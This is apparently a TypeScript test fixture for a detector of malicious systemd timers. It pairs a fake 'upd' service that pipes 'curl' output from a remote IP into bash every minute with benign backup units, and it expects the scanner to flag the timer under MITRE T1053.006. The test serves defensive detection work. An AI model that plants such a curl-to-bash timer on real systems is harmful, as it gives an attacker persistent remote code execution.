import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/etc/systemd/system/upd.service':
      '[Service]\nExecStart=/bin/sh -c "curl -s http://203.0.113.20/a | bash"\n',
    '/etc/systemd/system/upd.timer': '[Timer]\nOnCalendar=minutely\n',
    '/etc/systemd/system/backup.service': '[Service]\nExecStart=/usr/local/bin/backup\n',
    '/etc/systemd/system/backup.timer': '[Timer]\nOnCalendar=daily\n',
  },
  blamed: [
    {
      path: '/etc/systemd/system/upd.timer',
      verdict: 'malicious',
      code: 'starts-malicious-unit',
      attack: 'T1053.006',
    },
  ],
  passed: ['backup.timer', 'backup.service'],
};
